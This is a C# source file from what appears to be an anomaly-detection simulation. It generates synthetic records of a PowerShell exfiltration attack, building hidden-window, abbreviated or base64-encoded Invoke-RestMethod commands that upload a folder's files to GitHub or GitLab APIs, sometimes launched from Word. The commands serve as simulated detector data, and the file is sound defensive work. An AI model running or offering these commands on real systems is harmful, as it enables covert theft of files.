using Anomaly.Pipeline.Simulation.Ordinary;
using Anomaly.Pipeline.Simulation.World;

namespace Anomaly.Pipeline.Simulation.Attacks;

/// <summary>PowerShell talks to the API itself; parameters are abbreviated or the command is encoded.</summary>
internal sealed class PowerShellRest : Attack
{
    public override string Kind => "powershell-rest";

    public override string Description => "PowerShell Invoke-RestMethod uploads files to an API of GitHub or GitLab";

    public override bool Fits(SimHost host) => host.Windows && host.Role is Role.Office or Role.Server or Role.Room;

    public override long Volume(Dice dice) => dice.LogUniform(100_000, 200e6);

    public override void Play(AttackScene scene)
    {
        bool gitLab = scene.Choice % 3 == 0;
        string url = gitLab
            ? $"https://gitlab.com/api/v4/projects/{scene.Choice % 90_000_000}/repository/files/f.zip"
            : $"https://api.github.com/repos/{scene.Account}/{scene.Repository}/contents/$n";
        string text = (scene.Choice / 3 % 3) switch
        {
            0 => $"Invoke-RestMethod -Method Put -Uri {url} -Headers $h -Body $b",
            1 => $"irm -Me {(gitLab ? "Post" : "Put")} -Ur {url} -H $h -B ([Convert]::ToBase64String([IO.File]::ReadAllBytes($f)))",
            _ => "",
        };
        string command = text.Length > 0
            ? $"powershell.exe -NoProfile -WindowStyle Hidden -Command \"gci {scene.Scratch} | % {{ {text} }}\""
            : "powershell.exe -nop -w hidden -enc " + Convert.ToBase64String(System.Text.Encoding.Unicode.GetBytes($"gci {scene.Scratch}|%{{irm -Me Put -Ur {url} -B $_}}"));
        var parent = scene.Dice.Chance(0.5) ? scene.Shell : scene.Recorder.Service(@"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE", scene.Host.Account);
        var shell = scene.Recorder.Start(scene.Time, parent, Programs.PowerShell, [command]);
        scene.Time += 2_000_000;
        foreach (long bytes in scene.Split((int)Math.Clamp(scene.Bytes / scene.Dice.LogUniform(400_000, 20_000_000), 1, 25)))
        {
            scene.Time = scene.Recorder.Tls(scene.Time, shell, gitLab ? RepositorySites.GitLab : RepositorySites.GitHubApi, bytes, 5_500, GitCommands.Transfer(scene.Dice, bytes));
            scene.Pause(3);
        }
    }
}
